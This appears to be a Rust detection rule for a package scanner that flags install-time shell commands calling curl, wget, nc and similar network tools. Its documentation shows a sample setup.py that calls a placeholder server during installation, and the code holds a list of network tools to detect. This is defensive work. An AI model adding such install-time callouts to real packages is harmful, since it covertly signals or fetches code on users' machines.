//! ## What it detects
//!
//! `curl`, `wget`, `nslookup` or `ping` in a command that runs while the package is installed.
//!
//! ## Why it is bad
//!
//! The request itself tells its receiver that the package runs; what it fetches is in no archive.
//!
//! ## Innocent lookalikes
//!
//! Sources that are too large for the package are downloaded by a build; it is weak evidence.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! os.system('curl http://x.example.invalid/ping')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! os.system('curl --version')
//! ```

use fondaco_python::Api;
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("install-request"),
    title: "a command calls a server during installation",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::CommandAndControl),
    weight: 0.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    const TOOLS: [&str; 7] = ["curl", "wget", "nslookup", "dig", "ping", "nc", "invoke-webrequest"];
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let early = matches!(call.trigger, Some(Trigger::Install | Trigger::Startup));
        let text = call.texts().join(" ").to_ascii_lowercase();
        let tool = text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(')).any(|w| TOOLS.contains(&w));
        if early && tool && text.contains('.') {
            hits.call(unit, call, "a command that calls a server");
        }
    }
}
